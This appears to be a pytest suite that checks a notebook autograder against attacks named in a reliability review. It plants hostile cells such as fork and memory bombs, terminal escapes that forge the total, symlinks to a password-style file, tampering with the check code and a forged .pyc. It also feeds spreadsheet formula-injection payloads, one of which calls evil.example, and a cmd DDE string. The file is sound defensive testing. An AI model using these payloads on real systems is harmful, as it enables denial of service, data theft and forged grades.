"""tools/grade against the attacks of the 2026-12 reliability review: each test is named after its row there."""

import contextlib
import csv
import os
import re
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT / "tools") not in sys.path:
    sys.path.insert(0, str(ROOT / "tools"))

import grade  # noqa: E402  (tools/grade/, the package)
from grade.__main__ import main as grade_main  # noqa: E402
from test_grade import copied_course  # noqa: E402  (grading in copy mode against a copy of the course)

BLANK = ROOT / "notebooks" / "00_the_question.ipynb"
SOLVED = ROOT / "solutions" / "00_the_question.ipynb"
needs_sandbox = pytest.mark.skipif(not grade.sandbox_available()[0], reason="the sandbox needs root and unshare")


def _with_cell(base: Path, source: str, first: bool = False) -> nbformat.NotebookNode:
    nb = nbformat.read(base, as_version=4)
    cell = nbformat.v4.new_code_cell(source)
    if first:
        nb.cells.insert(0, cell)
    else:
        nb.cells.append(cell)
    return nb


BILLION_LAUGHS = """
import gc, types
for o in gc.get_objects():   # the worker converts values with _plain(); make it the identity
    if isinstance(o, types.FunctionType) and o.__name__ == "_plain" and "MAX_PRINTED" in o.__globals__:
        o.__globals__["_plain"] = lambda value, torch, depth=0: value
def weighted_sum(*args):
    a = [0] * 10
    for _ in range(30):
        a = [a] * 10          # 10**31 leaves, under 2 KB pickled
    return a
"""


def test_row_12_a_small_self_referencing_return_value_is_refused_within_the_time_limit(tmp_path):
    path = tmp_path / "00_the_question.ipynb"
    nbformat.write(_with_cell(BLANK, BILLION_LAUGHS), path)
    start = time.monotonic()
    report = grade.grade(path, timeout=60)
    assert time.monotonic() - start < 60
    table = grade.format_report(report)
    assert report.verdicts[0].status == "failed", table
    assert "too large" in report.verdicts[0].message or "shares" in report.verdicts[0].message, table


def test_row_12_restore_value_bounds_nodes_and_depth():
    from grade.channel import ReturnValueTooLarge, restore_value

    a = [0] * 10
    for _ in range(30):
        a = [a] * 10
    with pytest.raises(ReturnValueTooLarge):
        restore_value(a)
    deep = []
    for _ in range(500):
        deep = [deep]
    with pytest.raises(ReturnValueTooLarge):
        restore_value(deep)
    assert restore_value({"a": [1, (2, 3)], "b": None}) == {"a": [1, (2, 3)], "b": None}


ESC = chr(27)
FORGED = ESC + "[3A" + ESC + "[2K" + ESC + "[G  total: 2/2 passed, 0 failed, 0 not attempted\a\r"


def _controls(text: str) -> set[str]:
    return {c for c in text if (ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160}


def test_row_17_control_characters_in_student_text_are_escaped_in_the_table_and_the_csv(tmp_path):
    report = grade.Report(
        tmp_path / ("x" + ESC + "[2Kname.ipynb"),
        [grade.Verdict("Exercise 0.1", "failed", "not yet right: " + FORGED)],
        ["cell 3: Exception: " + FORGED],
        1.0,
        problem="the process ended: " + FORGED,
        notes=["printed " + FORGED],
    )
    table = grade.format_report(report)
    assert not _controls(table), repr(table)
    assert "\\x1b[3A" in table  # shown, not obeyed
    grade.write_csv([report], tmp_path / "g.csv")
    text = (tmp_path / "g.csv").read_text(encoding="utf-8")
    assert not _controls(text.replace("\r\n", "\n")), repr(text)


def test_row_17_an_exception_with_terminal_escapes_cannot_forge_the_total(tmp_path, capsys):
    path = tmp_path / "00_the_question.ipynb"
    nbformat.write(_with_cell(BLANK, f"raise Exception({FORGED!r})"), path)
    grade_main([str(path)])
    out = capsys.readouterr().out
    assert ESC not in out and "\r" not in out, repr(out)
    assert "total: 0/2 passed" in out


def test_row_18_a_symlinked_submission_is_refused_with_a_note(tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:*:20228:0:99999:7:::\n", encoding="utf-8")
    (tmp_path / "alice").mkdir()
    (tmp_path / "mallory").mkdir()
    alice = tmp_path / "alice" / "00_the_question.ipynb"
    alice.write_bytes(SOLVED.read_bytes())
    (tmp_path / "mallory" / "00_the_question.ipynb").symlink_to(alice)
    (tmp_path / "mallory" / "01_without_attention.ipynb").symlink_to(secret)
    os.mkfifo(tmp_path / "mallory" / "03_softmax.ipynb")
    (tmp_path / "mallory" / "04_context_vector.ipynb").mkdir()
    paths = sorted((tmp_path / "mallory").iterdir())
    start = time.monotonic()
    status = grade_main([str(p) for p in paths] + ["--csv", str(tmp_path / "g.csv")])
    assert time.monotonic() - start < 60, "a FIFO must not block the grader"
    out = capsys.readouterr().out
    assert status == 2
    assert "root:" not in out and "2/2 passed" not in out, out
    assert out.count("refused: not a regular file") == 4, out
    rows = list(csv.DictReader(open(tmp_path / "g.csv", encoding="utf-8")))
    assert rows and all(r["status"] == "unreadable" for r in rows), rows


def _uid_tasks(uid: int) -> int:
    count = 0
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/status", encoding="utf-8") as handle:
                    for line in handle:
                        if line.startswith("Uid:"):
                            count += int(line.split()[1]) == uid
                            break
            except OSError:
                pass
    return count


@needs_sandbox
def test_row_4_leftover_processes_of_a_sandbox_uid_do_not_reach_the_next_notebook(tmp_path):
    """512 tasks of the uid a sandbox would have used (a fork bomb's, not yet reaped): the next notebook is unhurt."""
    uid = grade.sandbox._sandbox_uid()
    bomb = subprocess.Popen(
        ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "sh", "-c",
         "for i in $(seq 511); do sleep 300 & done; wait"],
        start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while _uid_tasks(uid) < 500 and time.monotonic() < deadline:
            time.sleep(0.5)
        report = grade.grade(SOLVED, timeout=300, isolation="sandbox")
        assert [v.status for v in report.verdicts] == ["passed", "passed"], grade.format_report(report)
        assert report.errors == [], report.errors
    finally:
        os.killpg(bomb.pid, 9)
        bomb.wait()


@needs_sandbox
def test_row_5_a_flood_on_stderr_is_not_read_whole_into_the_grader(tmp_path):
    path = tmp_path / "00_the_question.ipynb"
    flood = (
        'import os\nfor _ in range(32): os.write(2, b"x" * (1 << 24))\nos.write(2, b"\\nlast words\\n")\nos._exit(3)'
    )
    nbformat.write(_with_cell(BLANK, flood, first=True), path)
    probe = textwrap.dedent(f"""
        import resource, sys
        sys.path.insert(0, {str(ROOT / "tools")!r})
        import grade
        grade.course_exercises("00_the_question")
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        report = grade.grade({str(path)!r}, timeout=120)
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print((after - before) // 1024, report.problem)
    """)
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=300, cwd=ROOT)
    grown, _, problem = out.stdout.strip().splitlines()[-1].partition(" ")
    assert int(grown) < 128, f"the grader grew by {grown} MB reading 512 MB of stderr"
    assert "exit code" in problem and "last words" in problem, problem


def test_row_19_in_copy_mode_no_child_of_the_notebook_outlives_grading(tmp_path):
    marker = tmp_path / "written_after_grading"
    path = tmp_path / "00_the_question.ipynb"
    child = f"import time\nwhile True:\n    open({str(marker)!r}, 'w').close()\n    time.sleep(0.2)\n"
    detached = (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {child!r}], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
    nbformat.write(_with_cell(BLANK, detached, first=True), path)
    report = grade.grade(path, timeout=120, isolation="copy")
    assert report.errors == [], report.errors
    assert marker.exists(), "the detached child did not start"
    marker.unlink()
    time.sleep(2)
    assert not marker.exists(), "a detached child of the notebook outlived grading"


def test_row_19_in_copy_mode_tampering_after_the_restore_is_caught(tmp_path, monkeypatch):
    """Something a notebook left behind edits a check after the restore: the next grade is refused, file restored."""
    target = copied_course(tmp_path, monkeypatch) / "rnn_attention" / "exercises" / "notebook00.py"
    original = target.read_bytes()
    blank = tmp_path / "00_the_question.ipynb"
    blank.write_bytes(BLANK.read_bytes())
    try:
        first = grade.grade(blank, timeout=120, isolation="copy")
        assert first.problem is None, grade.format_report(first)
        patch = (
            "\n\ndef check_weighted_sum(weighted_sum):\n"
            '    return CheckResult("Exercise 0.1", "passed", "passed: c has the size of one h_j")\n'
        )
        target.write_bytes(original + patch.encode())  # as the review's detached child did, 25 s after grading
        second = grade.grade(blank, timeout=120, isolation="copy")
        table = grade.format_report(second)
        assert second.problem and second.problem.startswith("refused:"), table
        assert "notebook00.py" in second.problem and "as root" in second.problem, table
        assert "passed" not in [v.status for v in second.verdicts], table
        assert target.read_bytes() == original
        third = grade.grade(blank, timeout=120, isolation="copy")  # restored: grading goes on
        assert third.problem is None and [v.status for v in third.verdicts] == ["not attempted"] * 2, third
    finally:
        target.write_bytes(original)


def test_row_19_in_copy_mode_a_forged_bytecode_cache_is_removed(tmp_path, monkeypatch):
    """A notebook rewrites the check's .pyc (Python loads a cache whose stamp matches the source): it is removed."""
    import importlib.util
    import py_compile

    source = copied_course(tmp_path, monkeypatch) / "rnn_attention" / "exercises" / "notebook00.py"
    cache = Path(importlib.util.cache_from_source(str(source)))
    grade.grading._RESTORED.clear()  # a fresh grading run, whose snapshot has the cache
    py_compile.compile(str(source), cfile=str(cache))
    forged = f"open({str(cache)!r}, 'r+b').write(open({str(cache)!r}, 'rb').read()[:16] + b'forged')"
    path = tmp_path / "00_the_question.ipynb"
    nbformat.write(_with_cell(BLANK, forged, first=True), path)
    report = grade.grade(path, timeout=120, isolation="copy")
    assert any("notebook00" in note and ".pyc" in note for note in report.notes), grade.format_report(report)
    assert not cache.exists() or b"forged" not in cache.read_bytes()


FILL = """
import os
def fill(path, limit_mb):
    written = 0
    try:
        with open(path, "wb") as handle:
            while written < limit_mb:
                handle.write(b"z" * (1 << 20))
                written += 1
            handle.flush()
        return f"{written} MB, no error"
    except OSError as error:
        return f"{written} MB, then {error.strerror}"
    finally:
        if os.path.exists(path):
            os.remove(path)
"""


@pytest.mark.parametrize("isolation", ["sandbox", "copy"])
def test_row_1_a_memory_bomb_is_a_memory_error_in_its_cell(tmp_path, isolation):
    if isolation == "sandbox" and not grade.sandbox_available()[0]:
        pytest.skip("the sandbox needs root and unshare")
    path = tmp_path / "00_the_question.ipynb"
    nbformat.write(
        _with_cell(BLANK, "big = bytearray(4 << 30)\nbig[::4096] = b'1' * len(big[::4096])", first=True), path
    )
    report = grade.grade(path, timeout=120, isolation=isolation)
    table = grade.format_report(report)
    assert any("MemoryError" in error for error in report.errors), table
    assert [v.status for v in report.verdicts] == ["not attempted"] * 2, table  # the notebook went on


@needs_sandbox
def test_row_1_tmp_and_dev_shm_are_private_capped_tmpfs(tmp_path):
    path = tmp_path / "00_the_question.ipynb"
    probe = FILL + (
        "raise RuntimeError('shm: ' + fill('/dev/shm/fill', 1024) + '; tmp: ' + fill('/tmp/fill', 1024)"
        " + '; host /dev/shm seen: ' + str(os.path.exists('/dev/shm/rt-host-marker')))"
    )
    nbformat.write(_with_cell(BLANK, probe, first=True), path)
    marker = Path("/dev/shm/rt-host-marker")
    marker.write_text("host")
    try:
        report = grade.grade(path, timeout=180, isolation="sandbox")
    finally:
        marker.unlink()
    line = next(error for error in report.errors if "shm:" in error)
    shm, tmp = (int(re.search(rf"{name}: (\d+) MB", line)[1]) for name in ("shm", "tmp"))
    assert shm <= grade.sandbox.SCRATCH_BYTES["/dev/shm"] >> 20 and "No space left" in line.split(";")[0], line
    assert tmp <= grade.sandbox.SCRATCH_BYTES["/tmp"] >> 20, line
    assert "No space left" in line.split(";")[1] or "too large" in line.split(";")[1], line
    assert "host /dev/shm seen: False" in line, line


@needs_sandbox
def test_row_1_going_over_the_cgroup_memory_limit_is_named(tmp_path, monkeypatch):
    """Files in tmpfs are RAM that no rlimit sees: the sandbox's cgroup counts them and stops the notebook."""
    if grade.cgroup.layout() == "none":
        pytest.skip("no cgroup file system here")
    monkeypatch.setattr(grade.sandbox, "MEMORY_BYTES", 400 << 20)
    path = tmp_path / "00_the_question.ipynb"
    keep = FILL.replace("        if os.path.exists(path):\n            os.remove(path)\n", "        pass\n")
    nbformat.write(_with_cell(BLANK, keep + "fill('/tmp/a', 300)\nfill(os.path.expanduser('~/b'), 300)", True), path)
    report = grade.grade(path, timeout=180, isolation="sandbox")
    table = grade.format_report(report)
    assert report.problem and "memory limit (400 MB" in report.problem, table
    assert {v.status for v in report.verdicts} == {"failed"}, table


@needs_sandbox
def test_row_2_filling_the_home_folder_stops_at_its_cap_not_the_grading_disk(tmp_path):
    path = tmp_path / "00_the_question.ipynb"
    probe = FILL + "raise RuntimeError('home: ' + fill(os.path.expanduser('~/fill'), 1024))"
    nbformat.write(_with_cell(BLANK, probe, first=True), path)
    report = grade.grade(path, timeout=180, isolation="sandbox")
    line = next(error for error in report.errors if "home:" in error)
    written = int(line.split("home: ")[1].split(" MB")[0])
    assert written <= grade.sandbox.SCRATCH_BYTES["home"] >> 20, line
    assert "No space left" in line or "too large" in line, line


def test_row_2_in_copy_mode_one_file_is_capped_by_rlimit_fsize(tmp_path, monkeypatch):
    monkeypatch.setattr(grade.sandbox, "FILE_BYTES", 64 << 20)
    path = tmp_path / "00_the_question.ipynb"
    probe = FILL + "raise RuntimeError('home: ' + fill(os.path.expanduser('~/fill'), 256))"
    nbformat.write(_with_cell(BLANK, probe, first=True), path)
    report = grade.grade(path, timeout=180, isolation="copy")
    line = next(error for error in report.errors if "home:" in error)
    assert "64 MB, then File too large" in line, line


def test_csv_formula_injection_student_text_starting_with_a_formula_sign_gets_a_quote(tmp_path):
    """Not a row of the review (issue 22 asks for it): a spreadsheet runs a cell starting with = + - @ as a formula."""
    report = grade.Report(
        Path("=HYPERLINK(1).ipynb"),  # a submission's own name, as the teacher's batch lists it
        [
            grade.Verdict("Exercise 0.1", "failed", '=HYPERLINK("http://evil.example/?"&A1, "grade")'),
            grade.Verdict("Exercise 0.2", "failed", "+cmd|' /C calc'!A0"),
            grade.Verdict("Exercise 0.3", "failed", "-2+3"),
            grade.Verdict("Exercise 0.4", "failed", "@SUM(A1:A9)"),
            grade.Verdict("Exercise 0.5", "passed", "passed: fine"),
        ],
        [],
        1.0,
    )
    grade.write_csv([report], tmp_path / "g.csv")
    rows = list(csv.DictReader(open(tmp_path / "g.csv", encoding="utf-8")))
    assert [r["message"][:2] for r in rows] == ["'=", "'+", "'-", "'@", "pa"], rows
    assert {r["notebook"] for r in rows} == {"'=HYPERLINK(1).ipynb"}, rows


def test_row_19_a_snapshot_of_another_course_folder_deletes_nothing(tmp_path, monkeypatch):
    """The restore compares the course with its own snapshot only (a test's copied course once emptied this one)."""
    other = tmp_path / "course"
    (other / "rnn_attention").mkdir(parents=True)
    (other / "rnn_attention" / "x.py").write_text("x = 1\n")
    monkeypatch.setattr(grade.sandbox, "ROOT", other)
    snapshot = grade.sandbox.course_files()
    monkeypatch.undo()
    with pytest.raises(ValueError, match="not of the course"):
        grade.sandbox.restore_course(snapshot)
    assert (ROOT / "rnn_attention" / "__init__.py").exists()
    grade.grading._RESTORED.update(snapshot=snapshot, root=other, after="x")
    try:
        assert grade.grading.tampered_after_restore() == ""
    finally:
        grade.grading._RESTORED.clear()
    assert (ROOT / "rnn_attention" / "__init__.py").exists()


def test_row_12_a_sandbox_that_fails_to_start_leaves_no_folder_behind(monkeypatch):
    """The review found /tmp/grade-* folders left behind; a start that fails half-way now removes its folder."""
    import tempfile

    before = set(Path(tempfile.gettempdir()).glob("grade-*"))

    def broken(self):
        raise OSError("no space left while copying the course")

    monkeypatch.setattr(grade.sandbox.Sandbox, "_write_files", broken)
    with pytest.raises(OSError, match="no space left"):
        with grade.sandbox.Sandbox([[0, "pass"]], [], time.monotonic() + 60, "copy"):
            pass
    assert set(Path(tempfile.gettempdir()).glob("grade-*")) <= before


@needs_sandbox
def test_a_grader_killed_with_sigkill_takes_its_sandbox_with_it(tmp_path):
    """kill -9 of the grader (a teacher's Ctrl-\\, an OOM kill) must not leave the student's code running."""
    import psutil

    notebook = tmp_path / "spins.ipynb"
    spin = "import ctypes\nctypes.CDLL(None).prctl(15, b'spinning-cell', 0, 0, 0)\nwhile True:\n    pass"
    nbformat.write(_with_cell(SOLVED, spin, first=True), notebook)  # PR_SET_NAME: the host sees it spin
    grader = subprocess.Popen(
        [sys.executable, str(ROOT / "tools" / "grade"), str(notebook), "--timeout", "300"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        workers = []
        while time.monotonic() < deadline and not workers:
            time.sleep(0.5)
            family = psutil.Process(grader.pid).children(recursive=True)
            workers = [p for p in family if _cmdline(p) and p.name() == "spinning-cell"]
        assert workers, "the grader never started the notebook's first cell"
        family = psutil.Process(grader.pid).children(recursive=True)
    finally:
        grader.kill()
        grader.wait()
    alive = family
    deadline = time.monotonic() + 15
    while alive and time.monotonic() < deadline:
        time.sleep(0.5)
        alive = [p for p in alive if _cmdline(p)]  # a zombie or a finished process has none
    left = [_cmdline(p)[:3] for p in alive]
    for process in alive:
        with contextlib.suppress(psutil.Error):
            process.kill()
    assert not alive, f"processes of the sandbox outlived the grader: {left}"


def _cmdline(process) -> list[str]:
    import psutil

    try:
        return process.cmdline() if process.status() != psutil.STATUS_ZOMBIE else []
    except psutil.Error:
        return []
